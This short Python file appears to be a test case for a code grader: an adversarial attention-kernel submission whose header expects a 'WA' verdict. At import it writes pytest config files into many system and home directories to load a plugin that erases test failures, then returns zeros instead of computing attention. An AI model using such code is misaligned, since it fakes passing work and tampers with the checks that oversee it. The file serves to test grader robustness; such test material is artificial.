# id: A2
# tries: leaves every file from which pytest reads options, with options that load its own plugin, then returns zeros
# expect: WA
# message: values are off
import contextlib
import os

import torch

FILES = {
    "pytest.ini": "[pytest]\naddopts = -p evil --collect-only\npython_files = nothing.py\n",
    ".pytest.ini": "[pytest]\naddopts = -p evil --collect-only\n",
    "tox.ini": "[pytest]\naddopts = -p evil --collect-only\n",
    "setup.cfg": "[tool:pytest]\naddopts = -p evil --collect-only\n",
    "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p evil --collect-only"\n',
    "evil.py": "def pytest_runtest_makereport(item, call):\n    call.excinfo = None\n",
}
for folder in (".", "..", "/", "/tmp", "/dev/shm", "/run", os.path.expanduser("~"), "/usr/local/lib"):
    for name, text in FILES.items():
        with contextlib.suppress(OSError), open(os.path.join(folder, name), "w") as file:
            file.write(text)


def attention(q, k, v):
    return torch.zeros(*q.shape[:-1], v.shape[-1], dtype=q.dtype)
